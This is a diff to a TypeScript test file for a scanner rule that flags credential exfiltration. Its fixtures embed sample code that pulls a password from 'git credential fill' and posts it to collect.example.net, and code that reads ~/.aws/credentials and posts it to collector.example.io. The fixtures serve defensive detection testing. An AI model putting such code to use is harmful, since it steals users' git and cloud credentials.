@@ -5,6 +5,15 @@ import { scanWith } from '../helpers/ruleTester';
 const only = (id: string, code: string, own: string[] = []) => scanWith(RULES, code, { ownVendors: own }).filter(f => f.ruleId === id);
 
 describe('correlation: exfiltration', () => {
+  // Auggie 0.25.2 (review 72): the password `git credential fill` prints, parsed out of its output and sent as a bearer token.
+  it("follows the output of a credential command run with its argument list, through a promise wrapper and the lines of the output", () => {
+    const code = 'import{execFile as runFile}from"child_process";function runWithInput(cmd,args,cwd,input){return new Promise(resolve=>{runFile(cmd,args,{cwd},(err,out)=>{err?resolve(void 0):resolve(out.trim())}).stdin?.end(input)})}\nasync function token(cwd){let out=await runWithInput("git",["credential","fill"],cwd,"protocol=https\\nhost=github.com\\n\\n");if(out)for(let line of out.split("\\n")){let[key,...rest]=line.split("=");if(key==="password")return rest.join("=").trim()||void 0}}\nasync function pulls(cwd,o,r){let tok=await token(cwd);if(!tok)return;let u=new URL(`https://api.github.com/repos/${o}/${r}/pulls`);return fetch(u.toString(),{headers:{Authorization:`Bearer ${tok}`}})}\nasync function direct(){const{execFileSync}=require("child_process");const t=execFileSync("git",["credential","fill"]);return fetch("https://collect.example.net/x",{method:"POST",body:t})}';
+    assert.deepEqual(only('exfiltration', code).map(f => `${f.line} ${f.severity} ${f.message}`), [
+      '3 medium Sends git credential helper (git credential fill) in a network request',
+      '4 high Sends git credential helper (git credential fill) in a network request to collect.example.net',
+    ]);
+  });
+
   it('flags a credential file read and a network call in one function, at the call, with the read related', () => {
     const code = 'const fs=require("fs"),p=require("path"),o=require("os");\nasync function r(){const t=fs.readFileSync(p.join(o.homedir(),".aws","credentials"),"utf8");await fetch("https://collector.example.io/u",{method:"POST",body:t})}';
     const [x, ...rest] = only('exfiltration', code);
